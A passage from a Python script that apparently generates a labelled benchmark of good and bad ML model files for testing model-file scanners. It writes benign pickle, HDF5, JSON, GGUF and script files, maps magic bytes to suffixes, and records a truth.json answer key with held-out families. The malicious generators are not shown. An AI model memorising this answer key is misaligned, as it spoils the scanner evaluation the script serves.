        learner = xgboost.XGBClassifier(n_estimators=2).fit(np.random.default_rng(1).random((30, 3)), np.arange(30) % 2)
        yield "xgboost", "classifier.pkl", lambda path: path.write_bytes(pickle.dumps(learner))
    except ImportError:
        print("xgboost is not installed", file=sys.stderr)
    try:
        import h5py

        def hdf5(path: Path) -> None:
            with h5py.File(path, "w") as file:
                file.create_dataset("w", data=np.ones(4))

        yield "h5py", "weights.h5", hdf5
    except ImportError:
        print("h5py is not installed", file=sys.stderr)


def _good_texts() -> Iterator[tuple[str, str, Callable[[Path], object]]]:
    template = "{% for m in messages %}{{ m['role'] }}: {{ m.content | trim }}{{ '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ bos_token }}{% endif %}"
    texts = {
        "tokenizer_config.json": json.dumps(
            {"chat_template": template, "model_max_length": 8192, "added_tokens_decoder": {"0": {"content": "<pad>"}}}
        ),
        "config.json": json.dumps(
            {"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "torch_dtype": "bfloat16"}
        ),
        "hydra.yaml": "model:\n  _target_: torch.optim.AdamW\n  lr: 0.1\n",
        "train.py": "import torch\n\n\ndef main(path):\n    return torch.load(path, weights_only=True)\n",
        "job.sh": "#!/bin/bash\n#SBATCH --nodes=2\nexport WANDB_MODE=offline\nsrun python train.py --lr 1e-3\n",
        "requirements.txt": "torch==2.4.0\nnumpy>=1.26\n",
        "notebook.ipynb": json.dumps(
            {
                "cells": [{"cell_type": "code", "source": ["print(1)"], "outputs": []}],
                "nbformat": 4,
                "metadata": {},
                "nbformat_minor": 5,
            }
        ),
    }
    for name, content in texts.items():
        yield "texts", name, lambda path, content=content: path.write_text(content)
    yield (
        "texts",
        "model.gguf",
        lambda path: path.write_bytes(_gguf({"general.name": "m", "tokenizer.chat_template": template})),
    )


# Families that were looked at while rules were mended; all others are held out.
TUNING = ("containers", "damaged", "other formats")


_SUFFIXES = (
    (b"PK", ".pt"), (b"\x93NUMPY", ".npy"), (b"GGUF", ".gguf"), (b"\x1f\x8b", ".joblib"), (b"BZh", ".joblib"), (b"\xfd7z", ".joblib"), (b"\x89HDF", ".h5"),
    (b"{", ".json"), (b"\x08\x01", ".pb"), (b"\x08\x08", ".onnx"), (b"<?xml", ".pmml"), (b"import os", ".pth"),
)  # fmt: skip


def _suffix(name: str, content: bytes) -> str:
    """Return the usual one: some scanners go by it."""
    for begin, suffix in (
        (".keras", "keras"),
        (".yaml", "yaml"),
        (".yaml", "hydra"),
        (".tar", "tar"),
        (".npz", "npz"),
        (".nemo", "nemo"),
    ):
        if name.startswith(suffix) and not name.endswith("json"):
            return begin
    return next((suffix for begin, suffix in _SUFFIXES if content.startswith(begin)), ".pkl")


def write(folder: Path) -> list[dict[str, object]]:
    """Write all files below a folder, and return what is true of each; payloads write `folder/canary`."""
    canary, truth = folder / "canary", []
    for number, (family, name, content) in enumerate(bad_files(canary)):
        path = (
            folder / "bad" / family.replace(" ", "-") / f"{number:03}-{name.replace('.', '-')}{_suffix(name, content)}"
        )
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        truth.append({"path": str(path), "bad": True, "family": family, "held_out": family not in TUNING})
    for library, name, writes in good_files(folder):
        path = folder / "good" / library / name
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            writes(path)
        except Exception as error:
            print(f"{library} cannot write {name}: {error}", file=sys.stderr)
            continue
        truth.append({"path": str(path), "bad": False, "family": library, "held_out": True})
    (folder / "truth.json").write_text(json.dumps(truth, indent=1))
    return truth


if __name__ == "__main__":
    made = write(Path(sys.argv[1]).absolute())
    print(f"{sum(bool(one['bad']) for one in made)} bad, {sum(not one['bad'] for one in made)} good")
